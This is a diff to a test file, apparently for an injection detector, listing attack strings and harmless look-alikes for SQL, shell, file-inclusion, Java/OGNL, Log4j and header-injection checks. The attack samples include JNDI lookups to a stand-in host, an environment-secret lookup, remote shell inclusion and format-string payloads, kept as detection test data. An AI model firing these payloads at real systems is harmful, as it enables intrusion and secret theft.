@@ -52,6 +52,25 @@ const cases: Readonly<Record<string, Case>> = {
   },
   sqliExtended: {
     attacks: [
+      'alter table goods add price int',
+      "create function q returns int soname 'q.so'",
+      'declare @q int',
+      'merge into a using b on (1)',
+      "copy goods to program 'x'",
+      'grant all on *.* to ann',
+      'show tables',
+      '9 xor 3',
+      '7 between 1 and 9',
+      'or not false',
+      "_latin1'q'",
+      "x'4142'",
+      "match(a) against('q')",
+      "info @> '{\"a\":1}'",
+      '/*!50001 q*/',
+      '@@datadir',
+      'user()',
+      'do sleep(3)',
+
       'concat_ws(',
       'Ucase (',
       'lower||(',
@@ -83,6 +102,18 @@ const cases: Readonly<Record<string, Case>> = {
       'select 5, name from members;',
     ],
     ordinary: [
+      'create a function that returns',
+      'show the tables',
+      'grant all wishes to Ann',
+      'merge into one using glue',
+      '2 or 3 between friends',
+      'declare victory',
+      'call me (soon)',
+      'set a price = fair',
+      '5 is not null and void',
+      '@@ -1,3 +1,4 @@',
+      '/*! banner of a stylesheet */',
+
       'the function concat (joins text)',
       'Northwind trading company',
       'order by phone',
@@ -214,6 +245,18 @@ const cases: Readonly<Record<string, Case>> = {
   },
   unixShell: {
     attacks: [
+      'nohup uptime &',
+      'busybox uptime',
+      'mysql -u ann',
+      '--output=/tmp/a',
+      '-oProxyCommand=date',
+      '$HOME/bin',
+      '${PATH}',
+      '%x%x%x%x',
+      '%7$n',
+      'who\\ami',
+      'una$@me -a',
+
       'process.env',
       'process.exit()',
       "require('net')",
@@ -265,6 +308,15 @@ const cases: Readonly<Record<string, Case>> = {
       'echo $((40+2))',
     ],
     ordinary: [
+      'time flies',
+      '100%now',
+      '%d items',
+      '$HOMEPAGE',
+      'env-friendly',
+      'cat -- the animal',
+      'node in a tree',
+      'git is a tool',
+
       '$(this)',
       "$('#menu').show()",
       'the process.environment is stable',
@@ -298,6 +350,11 @@ const cases: Readonly<Record<string, Case>> = {
   },
   windowsShell: {
     attacks: [
+      'ipconfig /all',
+      'del /f a',
+      'dir c:\\users',
+      'echo %COMPUTERNAME%',
+
       '& ipconfig /all',
       'x | dir c:\\',
       'cmd /c whoami',
@@ -307,6 +364,10 @@ const cases: Readonly<Record<string, Case>> = {
       '%COMSPEC% /c dir',
     ],
     ordinary: [
+      'type a/b',
+      'copy / paste',
+      'dir of 5 files',
+
       'net income and net assets',
       'the reg office',
       'if you like it, set a date',
@@ -387,6 +448,10 @@ const cases: Readonly<Record<string, Case>> = {
   },
   inclusion: {
     attacks: [
+      'a.php\0.png',
+      'img\0.jpg',
+      'data://text/plain,x',
+
       'php://filter/convert.base64-encode/resource=index',
       'http://e.example/shell.txt?',
       'gopher://10.0.0.1:6379/_x',
@@ -395,6 +460,8 @@ const cases: Readonly<Record<string, Case>> = {
       '\\\\10.0.0.9\\share\\x',
     ],
     ordinary: [
+      'a.b\0',
+
       'https://shop.example/page.php?id=4',
       'https://img.example/a.png',
       'mailto:anna@example.org',
@@ -463,6 +530,14 @@ const cases: Readonly<Record<string, Case>> = {
   },
   java: {
     attacks: [
+      'java.util.HashMap',
+      'org.apache.struts2.ServletActionContext',
+      "x.class['classLoader'].y",
+      "['date'].execute()",
+      "System.getenv('x')",
+      'Thread.sleep(9)',
+      "request.getParameter('a')",
+
       'java.util.concurrent.Runtime',
       'x=java.a.b.ProcessBuilder',
 
@@ -475,6 +550,12 @@ const cases: Readonly<Record<string, Case>> = {
       '%{(#a=@java.lang.System@x)}',
     ],
     ordinary: [
+      'java.io.IOException',
+      'java.lang.OutOfMemoryError',
+      'org.example.shop.Cart',
+      'the system (getenv) call',
+      'com.shop.app',
+
       'java runtime environment',
       'node.runtime.version',
 
@@ -488,13 +569,20 @@ const cases: Readonly<Record<string, Case>> = {
   },
   log4j: {
     attacks: [
+      '${script:javascript:1}',
+      '${dns:address|e.example}',
+      '${url:UTF-8:http://e.example}',
+
       '${jndi:ldap://e.example/a}',
       '${${lower:J}ndi:rmi://e.example/a}',
       '${${::-j}${::-n}di:dns://e.example}',
       '${${env:X:-j}ndi${env:X:-:}ldap://e.example/}',
       '${env:AWS_SECRET_ACCESS_KEY}',
     ],
-    ordinary: ['${name}', '${a.b}', 'price: ${price}', 'We need LDAP: and JNDI', '${date}'],
+    ordinary: [
+      '${url}',
+      '${file}',
+'${name}', '${a.b}', 'price: ${price}', 'We need LDAP: and JNDI', '${date}'],
   },
   php: {
     attacks: [
@@ -554,12 +642,23 @@ const cases: Readonly<Record<string, Case>> = {
   },
   lineBreaks: {
     attacks: [
+      '\nretr 4',
+      '\nAPOP ann 0123456789abcdef0123',
+      '\nAUTH ann c2VjcmV0cw==',
+      '\nb2 authenticate CRAM-MD5',
+      'a\r\n\r\n<html>x',
+      '嘊嘍Set-Cookie: a=b',
+
       'x\r\nSet-Cookie: a=b',
       'a\nLocation: http://e.example',
       'bob@example.org\nBcc: all@example.org',
       'x\r\n\r\nHTTP/1.1 200 OK',
     ],
     ordinary: [
+      '\nlist of 3 things',
+      '\nauthor of it',
+      'line\nuser 4',
+
       'Event: party\nLocation: Berlin\nStatus: confirmed',
       'hosts: web\n  connection: local',
       'Dear Anna,\nthank you.\nYours, Bob',
@@ -577,14 +676,8 @@ const cases: Readonly<Record<string, Case>> = {
     ],
   },
   mailCommands: {
-    attacks: [
-      '\nretr 4',
-      '\nAPOP ann 0123456789abcdef0123',
-      '\nAUTH ann c2VjcmV0cw==',
-      '\nb2 authenticate CRAM-MD5',
-      'A01 LOGIN ann x',
-    ],
-    ordinary: ['\nlist of 3 things', '\nauthor of it', 'line\nuser 4', 'A4 paper'],
+    attacks: ['A01 LOGIN ann x'],
+    ordinary: ['A4 paper'],
   },
   commandAgent: {
     attacks: ['strace -p 1', 'ansible-vault view x', 'env --help', 'visudo', "'terraform' apply"],
